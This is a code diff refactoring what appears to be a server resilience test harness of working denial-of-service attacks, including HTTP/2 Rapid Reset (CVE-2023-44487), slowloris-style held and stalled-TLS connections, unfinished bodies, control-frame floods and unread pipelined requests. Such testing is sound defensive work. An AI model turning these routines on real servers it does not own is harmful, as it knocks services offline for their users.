@@ -193,28 +193,29 @@ def idle_h2(target: Target, seconds: float, count: int = 64) -> dict[str, Any]:
     return {"h2": True, "opened": count, "closed_by_server": closed}
 
 
-def silent_tcp(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
-    """TCP connections that send no byte."""
-    socks = [target.tcp() for _ in range(count)]
-    time.sleep(seconds)
-    closed = sum(closed_by_peer(sock) for sock in socks)
-    for sock in socks:
-        sock.close()
-    return {"opened": count, "closed_by_server": closed}
-
-
-def stalled_tls(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
-    """TLS handshakes that stop inside the ClientHello."""
+def held_open(target: Target, seconds: float, first: bytes, count: int) -> dict[str, Any]:
+    """`count` TCP connections that send `first` and then nothing for `seconds`."""
     socks = []
     for _ in range(count):
         sock = target.tcp()
-        sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+        if first:
+            sock.sendall(first)
         socks.append(sock)
     time.sleep(seconds)
     closed = sum(closed_by_peer(sock) for sock in socks)
     for sock in socks:
         sock.close()
     return {"opened": count, "closed_by_server": closed}
+
+
+def silent_tcp(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
+    """TCP connections that send no byte."""
+    return held_open(target, seconds, b"", count)
+
+
+def stalled_tls(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
+    """TLS handshakes that stop inside the ClientHello."""
+    return held_open(target, seconds, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", count)
 
 
 def slow_heads(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
@@ -243,8 +244,7 @@ def slow_heads(target: Target, seconds: float, count: int = 300) -> dict[str, An
 def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
     """CVE-2023-44487: streams opened with a whole filter and reset at once, 20,000 per
     connection, reconnecting whenever the server closes."""
-    stats = {"resets_sent": 0, "connections": 0, "enhance_your_calm": 0, "h2": True}
-    lock = threading.Lock()
+    tally = Tally({"resets_sent": 0, "connections": 0, "enhance_your_calm": 0, "h2": True})
     deadline = time.monotonic() + seconds
     block = filter_block(len(FILTER_BODY))
 
@@ -252,10 +252,9 @@ def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[st
         while time.monotonic() < deadline:
             sock = h2_socket(target, deadline)
             if sock is None:
-                stats["h2"] = False
+                tally.counts["h2"] = False
                 return
-            with lock:
-                stats["connections"] += 1
+            tally.add("connections", 1)
             sock.sendall(PREFACE + frame(0x4, 0, 0))
             stream = 1
             sent = 0
@@ -269,31 +268,28 @@ def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[st
                         stream += 2
                     sock.sendall(batch)
                     sent += 100
-                    with lock:
-                        stats["resets_sent"] += 100
+                    tally.add("resets_sent", 100)
             except OSError:
                 pass
             if ENHANCE_YOUR_CALM in goaway_codes(read_all(sock, 2.0)):
-                with lock:
-                    stats["enhance_your_calm"] += 1
+                tally.add("enhance_your_calm", 1)
             sock.close()
 
     run_threads(one, connections)
-    return stats
+    return tally.counts
 
 
 def unfinished_bodies(target: Target, seconds: float, connections: int = 3) -> dict[str, Any]:
     """64 streams a connection, each sending as much of an 8 MB body as the server's
     windows let it, never its end."""
-    stats = {"body_bytes_sent": 0, "h2": True}
-    lock = threading.Lock()
+    tally = Tally({"body_bytes_sent": 0, "h2": True})
     deadline = time.monotonic() + seconds
     chunk = b"x" * 16384
 
     def one() -> None:
         sock = h2_socket(target, deadline)
         if sock is None:
-            stats["h2"] = False
+            tally.counts["h2"] = False
             return
         conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
         conn.initiate_connection()
@@ -322,8 +318,7 @@ def unfinished_bodies(target: Target, seconds: float, connections: int = 3) -> d
                         continue
                     if room >= len(chunk):
                         conn.send_data(stream_id, chunk)
-                        with lock:
-                            stats["body_bytes_sent"] += len(chunk)
+                        tally.add("body_bytes_sent", len(chunk))
                 sock.sendall(conn.data_to_send())
                 try:
                     data = sock.recv(65536)
@@ -338,14 +333,13 @@ def unfinished_bodies(target: Target, seconds: float, connections: int = 3) -> d
         sock.close()
 
     run_threads(one, connections)
-    return stats
+    return tally.counts
 
 
 def control_flood(target: Target, seconds: float, connections: int = 2) -> dict[str, Any]:
     """SETTINGS and PING frames as fast as they go and never a byte read, reconnecting
     whenever the server closes."""
-    stats = {"frames_sent": 0, "connections": 0, "closed_by_server": 0, "h2": True}
-    lock = threading.Lock()
+    tally = Tally({"frames_sent": 0, "connections": 0, "closed_by_server": 0, "h2": True})
     deadline = time.monotonic() + seconds
     batch = (frame(0x4, 0, 0) + frame(0x6, 0, 0, b"pingping")) * 500
 
@@ -353,33 +347,29 @@ def control_flood(target: Target, seconds: float, connections: int = 2) -> dict[
         while time.monotonic() < deadline:
             sock = h2_socket(target, deadline)
             if sock is None:
-                stats["h2"] = False
+                tally.counts["h2"] = False
                 return
-            with lock:
-                stats["connections"] += 1
+            tally.add("connections", 1)
             sock.settimeout(1.0)
             try:
                 sock.sendall(PREFACE)
                 while time.monotonic() < deadline:
                     sock.sendall(batch)
-                    with lock:
-                        stats["frames_sent"] += 1000
+                    tally.add("frames_sent", 1000)
             except TimeoutError:
                 pass  # the server stopped reading and did not close
             except OSError:
-                with lock:
-                    stats["closed_by_server"] += 1
+                tally.add("closed_by_server", 1)
             sock.close()
 
     run_threads(one, connections)
-    return stats
+    return tally.counts
 
 
 def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
     """Requests for /metrics sent on and on, HTTP/1.1 pipelined and over h2, their answers
     never read."""
-    stats = {"requests_sent": 0, "write_blocked": 0, "reset_by_server": 0}
-    lock = threading.Lock()
+    tally = Tally({"requests_sent": 0, "write_blocked": 0, "reset_by_server": 0})
     deadline = time.monotonic() + seconds
     path = b"/healthz" if target.plain else b"/metrics"
     http1 = (b"GET " + path + b" HTTP/1.1\r\nHost: gas\r\n\r\n") * 50
@@ -408,14 +398,11 @@ def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[st
                 else:
                     data = http1
                 sock.sendall(data)
-                with lock:
-                    stats["requests_sent"] += 50
+                tally.add("requests_sent", 50)
         except TimeoutError:
-            with lock:
-                stats["write_blocked"] += 1
+            tally.add("write_blocked", 1)
         except OSError:
-            with lock:
-                stats["reset_by_server"] += 1
+            tally.add("reset_by_server", 1)
         # Held, unread, to the end.
         time.sleep(max(0.0, deadline - time.monotonic()))
         sock.close()
@@ -425,7 +412,19 @@ def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[st
         thread.start()
     for thread in threads:
         thread.join()
-    return stats
+    return tally.counts
+
+
+class Tally:
+    """What an attack's threads saw, counted under one lock."""
+
+    def __init__(self, counts: dict[str, Any]) -> None:
+        self.counts = counts
+        self._lock = threading.Lock()
+
+    def add(self, key: str, count: int) -> None:
+        with self._lock:
+            self.counts[key] += count
 
 
 def run_threads(work: Callable[[], None], count: int) -> None:
